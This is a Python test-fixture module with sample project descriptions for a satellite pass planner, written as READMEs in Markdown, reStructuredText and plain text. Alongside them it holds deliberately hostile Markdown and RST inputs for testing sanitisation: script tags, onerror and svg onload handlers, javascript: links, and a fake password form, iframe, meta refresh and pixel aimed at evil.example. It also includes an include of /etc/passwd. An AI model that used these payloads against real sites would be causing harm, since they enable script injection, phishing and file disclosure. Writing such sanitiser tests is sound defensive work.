"""Descriptions of projects: one that a customer would write, and some that an enemy would."""

ORBIT = """\
# Orbit

Plans the passes of small satellites over your ground stations, and tells every antenna
when to look where.

* reads TLE and OMM, from files or from a catalogue service
* predicts passes for many stations at once, with their horizons
* exports to iCalendar, CSV and the scheduler's own queue

## Quick start

```python
from orbit_core import Planner, Station

planner = Planner.from_file("fleet.tle")
hamburg = Station("Hamburg", latitude=53.55, longitude=9.99, horizon=10)

for window in planner.passes(hamburg, days=2):
    print(window.satellite, window.rise, f"{window.culmination:.0f}°")
```

## What it needs

| Part | Package | Needed for |
|------|---------|------------|
| Core | `orbit-core` | passes, stations, exports |
| Units | `orbit-units` | angles, times, frequencies |
| Client | `ledger-client` | booking antenna time |

Times are UTC throughout. See the [handbook](https://orbit.example.com/handbook/) for the
conventions on coordinates, and the [change log](https://orbit.example.com/changes/) for what
is new.
"""

RESTRUCTURED = """\
Orbit units
===========

Angles, times and frequencies that do not mix::

    >>> from orbit_units import deg, MHz
    >>> deg(90) + MHz(2)
    Traceback (most recent call last):
    TypeError: an angle and a frequency do not add up

========== ===========
Quantity   Base unit
========== ===========
angle      radian
frequency  hertz
========== ===========

.. image:: https://badges.example.com/build.svg
   :alt: build status
"""

PLAIN = """\
Ledger client
-------------
Books antenna time and tells you what it cost.

    ledger book --station hamburg --from 12:00 --minutes 9

<b>This is plain text</b>, shown as it was written.
"""

#: What none of them may do: run, load, cover the page, or break its layout.
SCRIPT = "<script>window.hostile = 'a script'</script>"
HANDLER = "<img src=x onerror=\"window.hostile = 'a handler'\">"
ENDLESS = "Donaudampfschiffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaft" * 6

HOSTILE_MARKDOWN = f"""\
# Hostile {SCRIPT} {HANDLER}

{ENDLESS}

# Hostile

<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:9">covered</div>
<a href="javascript:window.hostile = 'a link'">click</a>
[click]( javascript:window.hostile='markdown') [data](data:text/html,<script>1</script>)
<svg onload="window.hostile = 'svg'"></svg><iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>
<link rel="stylesheet" href="https://evil.example/x.css"><style>body {{ display: none }}</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
![pixel](https://evil.example/pixel.png) <p id="main" class="notice unseen skip">id and class</p>
</div></main></body></html> {"<div>" * 40}

| {" | ".join(f"column {number} {'wide' * 6}" for number in range(12))} |
|{"---|" * 12}
| {" | ".join(["`" + "x" * 40 + "`"] * 12)} |

```
{"a line of code that does not end " * 20}
```

- [ ] to do
- [x] done
"""

HOSTILE_RESTRUCTURED = f"""\
.. raw:: html

   {SCRIPT}

.. include:: /etc/passwd

`click <javascript:window.hostile='rst'>`_ {ENDLESS}

.. image:: javascript:window.hostile='image'
.. figure:: https://evil.example/pixel.png
   :width: 9000px
   :target: javascript:window.hostile='figure'

Hostile
-------
Hostile
-------

.. code-block:: python

   {"x = 1; " * 60}
"""
